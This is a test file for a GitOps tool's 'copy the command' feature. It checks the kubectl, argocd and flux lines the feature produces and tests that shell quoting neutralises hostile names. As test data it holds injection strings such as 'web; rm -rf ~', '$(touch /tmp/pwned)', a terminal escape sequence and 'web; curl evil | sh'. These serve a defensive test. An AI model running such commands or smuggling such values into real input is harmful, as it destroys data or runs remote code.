// "Copy the command": the kubectl/argocd/flux line for what is selected, every cluster-given word shell-quoted so
// that pasting it runs exactly that command and nothing else.
import assert from 'node:assert/strict';
import {execFileSync} from 'node:child_process';
import {describe, test} from 'node:test';
import {equivalentCommand} from '../../../source/core/copy/equivalent-command.js';
import {shellWord} from '../../../source/core/util/shell-quote.js';
import {makeApp} from '../../ui/fixtures.js';

const argo = makeApp({name: 'shop-web', namespace: 'argocd', kind: 'Application'});
const ks = makeApp({name: 'web', namespace: 'shop', kind: 'Kustomization'});
const hr = makeApp({name: 'redis', namespace: 'cache', kind: 'HelmRelease'});
const gitApp = {provider: 'git', kind: 'Git', namespace: 'shop', name: 'web'};

describe('the equivalent command of an app and its actions', () => {
	test("an app's main action: argocd app sync, flux reconcile --with-source, driftwatch sync for a Git app", () => {
		assert.equal(equivalentCommand({type: 'app', app: argo}), 'argocd app sync shop-web');
		assert.equal(equivalentCommand({type: 'app', app: ks}), 'flux reconcile kustomization web -n shop --with-source');
		assert.equal(equivalentCommand({type: 'app', app: hr}), 'flux reconcile helmrelease redis -n cache --with-source');
		assert.equal(equivalentCommand({type: 'app', app: gitApp}), 'driftwatch sync Git/shop/web');
	});

	test('an Argo CD app outside the argocd namespace is NAMESPACE/NAME; each action as the argocd CLI spells it', () => {
		const elsewhere = makeApp({name: 'web', namespace: 'team-a', kind: 'Application'});
		const line = (action: Parameters<typeof equivalentCommand>[0] & {type: 'app'}) => equivalentCommand(action);
		assert.equal(line({type: 'app', app: elsewhere, action: 'sync', params: {prune: true}}), 'argocd app sync team-a/web --prune');
		assert.equal(line({type: 'app', app: argo, action: 'refresh'}), 'argocd app get shop-web --refresh');
		assert.equal(line({type: 'app', app: argo, action: 'hard-refresh'}), 'argocd app get shop-web --hard-refresh');
		assert.equal(line({type: 'app', app: argo, action: 'terminate'}), 'argocd app terminate-op shop-web');
		assert.equal(line({type: 'app', app: argo, action: 'rollback', params: {to: '3'}}), 'argocd app rollback shop-web 3');
		assert.equal(line({type: 'app', app: argo, action: 'enable-auto-sync'}), 'argocd app set shop-web --sync-policy automated');
	});

	test('Flux actions as the flux CLI spells them; a rollback (a revert in Git) is driftwatch rollback', () => {
		assert.equal(equivalentCommand({type: 'app', app: ks, action: 'suspend'}), 'flux suspend kustomization web -n shop');
		assert.equal(equivalentCommand({type: 'app', app: ks, action: 'resume'}), 'flux resume kustomization web -n shop');
		assert.equal(
			equivalentCommand({type: 'app', app: ks, action: 'reconcile', params: {withSource: false}}),
			'flux reconcile kustomization web -n shop',
		);
		assert.equal(
			equivalentCommand({type: 'app', app: ks, action: 'rollback', params: {to: 'abc1234'}}),
			'driftwatch rollback Kustomization/shop/web --to abc1234',
		);
		assert.equal(equivalentCommand({type: 'app', app: gitApp, action: 'enable-auto-sync'}), null);
	});

	test('a resource is kubectl get with the short type name kubectl users type, kind.group otherwise', () => {
		const resource = (group: string, kind: string, namespace: string | null, name: string) =>
			equivalentCommand({type: 'resource', resource: {group, kind, namespace, name}});
		assert.equal(resource('apps', 'Deployment', 'shop', 'web'), 'kubectl -n shop get deploy web');
		assert.equal(resource('', 'ConfigMap', 'shop', 'web-settings'), 'kubectl -n shop get cm web-settings');
		assert.equal(resource('', 'Namespace', null, 'shop'), 'kubectl get ns shop');
		assert.equal(
			resource('kustomize.toolkit.fluxcd.io', 'Kustomization', 'shop', 'web'),
			'kubectl -n shop get kustomization.kustomize.toolkit.fluxcd.io web',
		);
		assert.equal(
			equivalentCommand({type: 'resource', verb: 'describe', resource: {group: '', kind: 'Pod', namespace: 'shop', name: 'web-7d9f'}}),
			'kubectl -n shop describe pod web-7d9f',
		);
	});

	test("a pod's logs: container, previous, tail and follow as kubectl logs takes them", () => {
		assert.equal(
			equivalentCommand({type: 'logs', namespace: 'shop', pod: 'web-7d9f-x2x', container: 'app', previous: true}),
			'kubectl -n shop logs pod/web-7d9f-x2x -c app --previous',
		);
		assert.equal(
			equivalentCommand({type: 'logs', namespace: 'shop', pod: 'web', tail: 200, follow: true}),
			'kubectl -n shop logs pod/web --tail=200 -f',
		);
	});
});

describe('shell quoting of hostile names', () => {
	const hostile = [
		'web; rm -rf ~',
		"it's",
		'$(touch /tmp/pwned)',
		'`id`',
		'a b\tc',
		'line\nbreak',
		'esc\u001B]52;c;eA==\u0007',
		'bidi\u202Eevil',
		"back\\slash'quote",
		'',
		'-n',
		'~root',
		'*',
	];

	test('every word reads back, in a real shell, as exactly itself: one word, nothing run', () => {
		for (const word of hostile) {
			// printf prints each argument on its own line, NUL-terminated: one argument back, equal to the word.
			const printed = execFileSync('bash', ['-c', `printf '%s\\0' ${shellWord(word)}`], {encoding: 'utf8'});
			assert.deepEqual(printed.split('\0').slice(0, -1), [word], `shellWord(${JSON.stringify(word)}) = ${shellWord(word)}`);
		}
	});

	test('the quoted form holds no raw control character (a pasted line break would run the line)', () => {
		for (const word of hostile) assert.doesNotMatch(shellWord(word), /[\u0000-\u001F\u007F-\u009F\u202E]/);
	});

	test('a hostile app name stays one quoted word of the command', () => {
		const app = {provider: 'flux', kind: 'Kustomization', namespace: 'shop', name: 'web; curl evil | sh'};
		assert.equal(equivalentCommand({type: 'app', app}), "flux reconcile kustomization 'web; curl evil | sh' -n shop --with-source");
		assert.equal(equivalentCommand({type: 'logs', namespace: 'shop', pod: "x'$(id)"}), "kubectl -n shop logs 'pod/x'\\''$(id)'");
	});
});
